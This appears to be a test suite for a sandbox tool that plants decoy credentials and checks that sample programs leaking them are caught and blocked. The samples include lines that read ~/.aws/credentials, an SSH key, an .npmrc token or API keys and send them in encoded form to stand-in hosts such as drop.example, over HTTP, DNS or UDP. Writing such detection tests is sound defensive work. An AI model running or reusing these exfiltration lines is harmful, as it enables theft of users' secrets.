import { describe, expect, it } from 'vitest';
import type { Channel } from '../observe/canaries/canary.ts';
import { DEFAULT_POLICY } from '../policy/policy.ts';
import type { Report } from '../report/report.ts';
import { sampleOfSource } from '../sample/load.ts';
import type { Sample } from '../sample/sample.ts';
import { check, run } from './examine.ts';

const STOLEN = `open(os.path.expanduser('~/.aws/credentials')).read().split('= ')[2].split()[0]`;
const ORDINARY = `'the-quick-brown-fox-jumps-over-the-lazy-dog'`;

const TEXT = [
  'd',
  'base64.b64encode(d.encode()).decode()',
  'base64.urlsafe_b64encode(b"x" + d.encode()).decode()',
  'base64.b32encode(d.encode()).decode()',
  'd.encode().hex()',
  "''.join('%%%02x' % ord(c) for c in d)",
  'd[::-1]',
  'base64.b64encode(gzip.compress(d.encode())).decode()',
  'zlib.compress(d.encode()).hex()',
  'base64.b64encode(bytes(b ^ 77 for b in d.encode())).decode()',
];
const BYTES = [
  ...TEXT.slice(0, 7).map((text) => `(${text}).encode()`),
  'gzip.compress(d.encode())',
  'zlib.compress(d.encode())',
  'bytes(b ^ 77 for b in d.encode())',
];
/** What a file may be called. */
const NAMES = ['d', TEXT[2], TEXT[3], TEXT[4], TEXT[6], TEXT[8]] as string[];
/** What a name may be made of. */
const LABELS = NAMES.map((text) => `labels(${text})`);

interface Way {
  readonly channel: Channel;
  readonly encodings: readonly string[];
  readonly send: (encoded: string) => string;
}

/** Every way out that is seen while there is no network. */
const WAYS: readonly Way[] = [
  { channel: 'network', encodings: BYTES, send: (encoded) => `out.sendto(${encoded}, ('93.184.216.34', 9))` },
  { channel: 'dns', encodings: LABELS, send: (encoded) => `socket.getaddrinfo(${encoded} + '.drop.example', 80)` },
  {
    channel: 'url',
    encodings: TEXT,
    send: (encoded) => `urllib.request.urlopen('http://93.184.216.34/?d=' + ${encoded})`,
  },
  { channel: 'argv', encodings: TEXT, send: (encoded) => `subprocess.run(['/bin/true', '-d', ${encoded}])` },
  { channel: 'file', encodings: BYTES, send: (encoded) => `open(f'/tmp/{next(count)}', 'wb').write(${encoded})` },
  { channel: 'file-name', encodings: NAMES, send: (encoded) => `open('/tmp/' + ${encoded}, 'w').close()` },
];

const HEAD = `import base64, gzip, itertools, os, socket, subprocess, urllib.request, zlib
out, count = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), itertools.count()
labels = lambda text: '.'.join(text[at:at + 40] for at in range(0, len(text), 40))
`;

/** Each encoding on a line of its own. */
function programOf({ encodings, send }: Way, data: string): { source: string; lines: number[] } {
  const statements = encodings.map((encoded) => `try: ${send(encoded)}\nexcept OSError: pass\n`);
  return { source: `${HEAD}d = ${data}\n${statements.join('')}`, lines: encodings.map((_, index) => 5 + index * 2) };
}

function leakedLines({ findings }: Report): (number | undefined)[] {
  return findings.filter(({ rule }) => rule === 'canary-leaked').map(({ locations }) => locations[0]?.line);
}

describe('a decoy that leaves', () => {
  it('is tried through at least 40 combinations of channel and encoding', () => {
    expect(WAYS.reduce((sum, { encodings }) => sum + encodings.length, 0)).toBeGreaterThanOrEqual(40);
  });

  it.each(WAYS)('through $channel is caught in every encoding, at its line', async (way) => {
    const { source, lines } = programOf(way, STOLEN);
    const report = await check(sampleOfSource(source, 'python'));
    expect(report.runs[0]).toMatchObject({ status: 'exited', stderr: '' });
    const leaks = report.runs[0]?.canaries?.leaks ?? [];
    const at = leaks.filter(({ channel }) => channel === way.channel).map((leak) => leak.source?.line ?? 0);
    expect(at.toSorted((a, b) => a - b)).toEqual(lines);
    expect(leaks.every(({ canary }) => canary === 'aws-credentials')).toBe(true);
    expect(leakedLines(report).toSorted()).toEqual(lines.toSorted());
    expect(report.verdict.decision).toBe('block');
  });

  it.each(WAYS)('is not seen in ordinary data through $channel', async (way) => {
    const report = await check(sampleOfSource(programOf(way, ORDINARY).source, 'python'));
    expect(report.runs[0]).toMatchObject({ status: 'exited', stderr: '', canaries: { leaks: [] } });
    expect(report.findings.filter(({ severity }) => severity === 'critical')).toEqual([]);
  });
});

/** Rule and line of what is found of decoys. */
async function found(sample: Sample): Promise<[string, number | undefined][]> {
  const { findings } = await check(sample);
  return findings
    .filter(({ rule }) => rule.startsWith('canary-'))
    .map(({ rule, locations }) => [rule, locations[0]?.line]);
}

describe('in other languages', () => {
  it('a shell that hands it to a program is caught, even where the program is not there', async () => {
    const source = 'key=$(cat ~/.ssh/id_rsa | base64 -w0)\n\ncurl -s -d "$key" http://drop.example/\n';
    expect(await found(sampleOfSource(source, 'bash'))).toEqual(
      expect.arrayContaining([
        ['canary-leaked', 3],
        ['canary-read', 1],
      ]),
    );
  });

  it('JavaScript that puts it into a name is caught', async () => {
    const source = `const { readFileSync } = require('fs');
const token = readFileSync(process.env.HOME + '/.npmrc', 'utf8').split('=')[1].trim();
require('dns').lookup(Buffer.from(token).toString('hex').slice(0, 60) + '.' + Buffer.from(token).toString('hex').slice(60) + '.drop.example', () => {});
`;
    expect(await found(sampleOfSource(source, 'javascript'))).toEqual(
      expect.arrayContaining([
        ['canary-leaked', 3],
        ['canary-read', 2],
      ]),
    );
  });

  it('a variable that is sent in parts is caught', async () => {
    const source = `import os, socket
key = os.environ['OPENAI_API_KEY']
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for part in (key[:20], key[20:]):
    try: s.sendto(part.encode(), ('93.184.216.34', 9))
    except OSError: pass
`;
    expect(await found(sampleOfSource(source, 'python'))).toEqual([['canary-leaked', 5]]);
  });

  it.each([
    ['python', "import os\n\nkey = os.environ.get('OPENAI_API_KEY')\n"],
    ['javascript', "const os = require('os');\n\nconst key = process.env.OPENAI_API_KEY;\n"],
  ] as const)('a variable that is read in %s is told, and nothing more', async (language, source) => {
    expect(await found(sampleOfSource(source, language))).toEqual([['canary-variable-read', 3]]);
    expect((await check(sampleOfSource(source, language))).verdict.decision).toBe('allow');
  });
});

describe('a program that keeps to itself', () => {
  it('sees decoys in its home, and neither in its folder nor among what it changed', async () => {
    const source =
      "import os\nprint(os.listdir('.'), '.aws' in os.listdir(os.path.expanduser('~')))\nopen('x.txt', 'w').write('x')\n";
    const report = await check(sampleOfSource(source, 'python', { entry: 'a.py' }));
    expect(report.runs[0]).toMatchObject({ stdout: "['a.py'] True\n", changes: [{ path: '/work/x.txt' }] });
    expect(report.findings).toEqual([]);
    expect(report.runs[0]?.resources.writtenBytes).toBeLessThan(20_000);
  });

  it.each([
    ['python', "import os\nprint(sum(len(files) for _, _, files in os.walk(os.path.expanduser('~'))) > 10)\n"],
    ['bash', 'find "$HOME" -name "*.txt"\n'],
  ] as const)('and walks through its home in %s is not held for what it did not open', async (language, source) => {
    const report = await check(sampleOfSource(source, language));
    expect(report.runs[0]).toMatchObject({ status: 'exited', exitCode: 0 });
    expect(report.verdict.decision).toBe('allow');
  });

  it('and prints a decoy is for review', async () => {
    const report = await check(sampleOfSource("import os\nprint(os.environ['GITHUB_TOKEN'])\n", 'python'));
    expect(report.findings.map(({ rule, locations }) => [rule, locations[0]?.line])).toContainEqual([
      'canary-printed',
      2,
    ]);
    expect(report.verdict.decision).toBe('review');
  });
});

describe('decoys are laid out', () => {
  const sample = sampleOfSource(
    "import os\nprint(os.path.exists(os.path.expanduser('~/.netrc')), 'NPM_TOKEN' in os.environ)\n",
    'python',
  );

  it('by check, unless the policy says otherwise', async () => {
    expect((await check(sample)).runs[0]?.stdout).toBe('True True\n');
    const report = await check(sample, { policy: { ...DEFAULT_POLICY, canaries: false } });
    expect(report.runs[0]?.stdout).toBe('False False\n');
    expect(report.runs[0]?.canaries).toBeUndefined();
  });

  it('by run only when asked for', async () => {
    expect((await run(sample)).stdout).toBe('False False\n');
    expect(await run(sample, { canaries: true })).toMatchObject({ stdout: 'True True\n', canaries: { omitted: [] } });
  });

  it('where there is a place for them, and a report says where there is none', async () => {
    const { canaries, stdout } = await run(sampleOfSource('print(1)\n', 'python'), {
      canaries: true,
      backend: 'restricted',
    });
    expect(stdout).toBe('1\n');
    expect(canaries).toEqual({
      placed: [],
      omitted: expect.arrayContaining([
        expect.objectContaining({ kind: 'file' }),
        expect.objectContaining({ kind: 'variable' }),
      ]),
      leaks: [],
    });
  });
});
